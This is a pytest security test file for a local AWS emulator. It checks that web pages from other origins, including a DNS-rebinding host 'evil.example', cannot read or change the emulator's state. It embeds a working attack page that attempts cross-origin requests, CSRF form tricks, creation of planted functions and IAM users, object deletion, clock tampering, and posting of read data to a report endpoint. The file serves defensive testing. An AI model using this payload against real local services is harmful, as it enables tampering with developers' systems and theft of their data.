"""Pages of other origins, opened in a real browser, neither read from the local AWS nor change anything in it."""

import base64
import io
import json
import zipfile
from collections.abc import Iterator
from typing import Any

import boto3
import pytest
import urllib3

from localaws import LocalAwsConfig
from localaws.process import daemon
from localaws.process.daemon import RunningLocalAws
from tests.browser.pages import WebSite, document, visit

#: Does everything to the local AWS that a page can do without its consent, then reports what it could read.
ATTACK = """
<!doctype html><body><script>
const target = TARGET, code = CODE, functionUrl = FUNCTION_URL, presigned = PRESIGNED, read = [];
const create = JSON.stringify({FunctionName: "planted", Runtime: "python3.12", Handler: "function.handler",
  Role: "arn:aws:iam::123456789012:role/r", Code: {ZipFile: code}});
const writes = [
  ["/lambda_us-east-1/functions?Action=CreateFunction", create],
  ["/2015-03-31/functions", create],
  ["/2015-03-31/functions/marked/invocations?Action=Invoke", "{}"],
  ["/lambda_us-east-1/functions/marked/invocations?Action=Invoke", "{}"],
  ["/?Action=CreateQueue&QueueName=planted&Version=2012-11-05", ""],
  ["/_embedstack/time", '{"advance": 864000}'],
  ["/_embedstack/faults", '{"service": "s3", "kind": "internal", "rate": 1}'],
  ["/kept?delete", "<Delete><Object><Key>object</Key></Object></Delete>"],
  ["/kept/planted?uploads", ""],
  ["/endpoints/endpoint/invocations", "{}"],
];
const reads = ["/", "/kept/object", "/kept/public", "/kept?list-type=2", "/_embedstack/health", "/_embedstack/time"];
const wait = milliseconds => new Promise(resolve => setTimeout(resolve, milliseconds));

async function attempt(url, options) {
  try {
    const response = await fetch(url, options), text = await response.text();
    if (response.type !== "opaque" && response.ok) read.push([url, text]);
  } catch (error) {}
}
function submit(path, enctype, fields, method = "POST") {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = "f" + Math.random();
  Object.assign(form, {method, enctype, action: path.startsWith("http") ? path : target + path, target: frame.name});
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    Object.assign(input, {type: "hidden", name, value});
    form.append(input);
  }
  document.body.append(frame, form);
  form.submit();
}
function load(tag, url) {
  const element = document.createElement(tag);
  element.src = url;
  document.body.append(element);
}
(async () => {
  for (const [path, body] of writes) {
    for (const type of ["text/plain", "application/x-www-form-urlencoded"])
      for (const mode of ["no-cors", "cors"])
        await attempt(target + path, {method: "POST", mode, body, headers: {"Content-Type": type}});
    await attempt(target + path, {method: "PUT", mode: "cors", body, headers: {"Authorization": "AWS4-HMAC-SHA256"}});
    navigator.sendBeacon(target + path, body);
    // A form in text/plain writes "name=value": JSON hides the sign in a member of its own.
    submit(path, "text/plain", {[body.replace(/}$/, ', "x": "')]: '"}'});
  }
  for (const path of reads) {
    for (const mode of ["no-cors", "cors"])
      for (const method of ["GET", "HEAD"]) await attempt(target + path, {mode, method});
    for (const tag of ["img", "script", "iframe", "embed", "video"]) load(tag, target + path);
  }
  for (const [method, url] of Object.entries(presigned))
    await attempt(url, {method, mode: "cors", body: method === "PUT" ? "x" : null});
  await attempt(presigned.GET, {mode: "no-cors", referrerPolicy: "no-referrer"});
  for (const mode of ["no-cors", "cors"]) {
    await attempt(functionUrl, {mode});
    await attempt(functionUrl, {mode, method: "POST", body: "x", referrerPolicy: "no-referrer"});
    await attempt("/to-time", {mode, method: "POST", body: '{"advance": 864000}'});
  }
  load("img", functionUrl);
  submit(functionUrl, "text/plain", {a: "b"});
  submit("/kept", "multipart/form-data", {key: "planted", file: "x"});
  submit("/", "application/x-www-form-urlencoded", {Action: "CreateUser", UserName: "planted", Version: "2010-05-08"});
  const sandboxed = document.createElement("iframe");
  sandboxed.sandbox = "allow-scripts allow-forms";
  sandboxed.srcdoc = `<script>fetch("${target}/_embedstack/time",
    {method: "POST", mode: "no-cors", body: '{"advance": 864000}'})<` + "/script>";
  document.body.append(sandboxed);
  await new Promise(resolve => {
    const socket = new WebSocket(target.replace("http", "ws") + "/_embedstack/time");
    socket.onopen = () => read.push(["websocket", "opened"]);
    socket.onclose = socket.onerror = resolve;
    setTimeout(resolve, 5000);
  });
  const opened = window.open(target + "/_embedstack/time");
  await wait(2000);
  try { if (opened.document.body.innerText) read.push(["window", opened.document.body.innerText]); } catch (error) {}
  await fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify({read, attempts: writes.length})});
})();
</script>
"""
SOURCE = """
import boto3
def handler(event, context):
    boto3.client("s3").put_object(Bucket="kept", Key="function-has-run", Body=b"")
    return "run"
"""
ROLE_TRUST = {"Version": "2012-10-17", "Statement": [
    {"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}]}  # fmt: skip


class State:
    """A local AWS that runs as `make up` starts it, with something of each kind, and what it looks like."""

    def __init__(self, running: RunningLocalAws) -> None:
        self.running = running
        self.s3, self.lambda_, self.sqs, self.iam = (self.client(name) for name in ("s3", "lambda", "sqs", "iam"))
        self.s3.create_bucket(Bucket="kept")
        self.s3.put_object(Bucket="kept", Key="object", Body=b"secret")
        self.s3.put_object(Bucket="kept", Key="public", Body=b"public", ACL="public-read")
        role = self.iam.create_role(RoleName="r", AssumeRolePolicyDocument=json.dumps(ROLE_TRUST))["Role"]["Arn"]
        archive = io.BytesIO()
        with zipfile.ZipFile(archive, "w") as package:
            package.writestr("function.py", SOURCE)
        self.package = archive.getvalue()
        self.lambda_.create_function(
            FunctionName="marked", Runtime="python3.12", Handler="function.handler", Role=role,
            Code={"ZipFile": self.package}, Timeout=30,
        )  # fmt: skip
        self.function_url = self.lambda_.create_function_url_config(FunctionName="marked", AuthType="NONE")[
            "FunctionUrl"
        ]
        self.lambda_.add_permission(
            FunctionName="marked", StatementId="public", Action="lambda:InvokeFunctionUrl", Principal="*",
            FunctionUrlAuthType="NONE",
        )  # fmt: skip

    def client(self, service: str) -> Any:
        return boto3.client(  # type: ignore[call-overload]
            service, endpoint_url=self.running.url, region_name="us-east-1",
            aws_access_key_id="local", aws_secret_access_key="local",  # noqa: S106 - any will do
        )  # fmt: skip

    def page(self, site: WebSite, target: str) -> str:
        """The attacking page."""
        presigned = {
            method: self.s3.generate_presigned_url(operation, Params={"Bucket": "kept", "Key": key})
            for method, operation, key in [("GET", "get_object", "object"), ("PUT", "put_object", "planted")]
        }
        values = {
            "TARGET": target, "CODE": base64.b64encode(self.package).decode(), "FUNCTION_URL": self.function_url,
            "PRESIGNED": presigned, "REPORT": f"http://127.0.0.1:{site.port}/report",
        }  # fmt: skip
        page = ATTACK
        for name, value in values.items():
            page = page.replace(name, json.dumps(value))
        return page

    def look(self) -> dict[str, Any]:
        """Everything that a page might have changed; time to the hour."""
        return {
            "objects": [(one["Key"], one["ETag"]) for one in self.s3.list_objects_v2(Bucket="kept")["Contents"]],
            "uploads": self.s3.list_multipart_uploads(Bucket="kept").get("Uploads", []),
            "buckets": [one["Name"] for one in self.s3.list_buckets()["Buckets"]],
            "functions": [one["FunctionName"] for one in self.lambda_.list_functions()["Functions"]],
            "queues": self.sqs.list_queues().get("QueueUrls", []),
            "users": [one["UserName"] for one in self.iam.list_users()["Users"]],
        }

    def time(self) -> str:
        now: str = urllib3.request("GET", f"{self.running.url}/_embedstack/time").json()["now"]
        return now[:10]


@pytest.fixture(scope="module")
def state(tmp_path_factory: pytest.TempPathFactory) -> Iterator[State]:
    folder = tmp_path_factory.mktemp("local-aws")
    running = daemon.start(LocalAwsConfig(port=0, clock_speed=0), folder)
    try:
        yield State(running)
    finally:
        daemon.stop(folder)


@pytest.fixture
def site() -> Iterator[WebSite]:
    with WebSite().serving() as serving:
        yield serving


@pytest.mark.parametrize("page_host", ["127.0.0.1", "localhost", "evil.example"])
def test_pages_of_other_origins_read_and_change_nothing(state: State, site: WebSite, page_host: str) -> None:
    before, day = state.look(), state.time()
    site.redirects["/to-time"] = f"{state.running.url}/_embedstack/time"
    site.pages["/"] = state.page(site, state.running.url)
    (report,) = visit(f"http://{page_host}:{site.port}/", site, "--host-resolver-rules=MAP evil.example 127.0.0.1")
    assert report == {"read": [], "attempts": 10}
    assert (state.look(), state.time()) == (before, day)


def test_forms_and_redirects_of_other_origins_change_nothing(state: State, site: WebSite) -> None:
    before, day = state.look(), state.time()
    for action in (f"{state.running.url}/_embedstack/time", "/to-time"):
        site.redirects["/to-time"] = f"{state.running.url}/_embedstack/time"
        site.pages["/"] = (
            f"<form method=post enctype=text/plain action='{action}'>"
            """<input name='{"advance": 864000, "x": "' value='"}'></form>"""
            # The page goes when the response to its form has come.
            "<script>addEventListener('pagehide', () => navigator.sendBeacon('/report', '0'));"
            "document.forms[0].submit()</script>"
        )
        visit(f"http://127.0.0.1:{site.port}/", site)
    assert (state.look(), state.time()) == (before, day)


def test_the_address_bar_reads(state: State) -> None:
    assert state.time() in document(f"{state.running.url}/_embedstack/time")


def test_rebound_host_name_reads_and_changes_nothing(state: State, site: WebSite) -> None:
    """A name of the attacker's that resolves to this machine makes the local AWS part of the page's own origin."""
    before, day = state.look(), state.time()
    rebound = "--host-resolver-rules=MAP evil.example 127.0.0.1"
    target = f"http://evil.example:{state.running.port}"
    shown = document(f"{target}/_embedstack/time", rebound)
    assert "Its Host header is" in shown
    assert day not in shown
    site.redirects["/to-time"] = f"{target}/_embedstack/time"
    site.pages["/"] = state.page(site, target)
    # Without the same-origin policy a page may do to any address what it may do to its own.
    (report,) = visit(f"http://127.0.0.1:{site.port}/", site, rebound, "--disable-web-security")
    assert report == {"read": [], "attempts": 10}
    assert (state.look(), state.time()) == (before, day)


def test_the_local_aws_works_for_programs(state: State) -> None:
    assert urllib3.request("GET", state.function_url).data == b"run"
    assert "function-has-run" in [key for key, _ in state.look()["objects"]]
    state.s3.delete_object(Bucket="kept", Key="function-has-run")
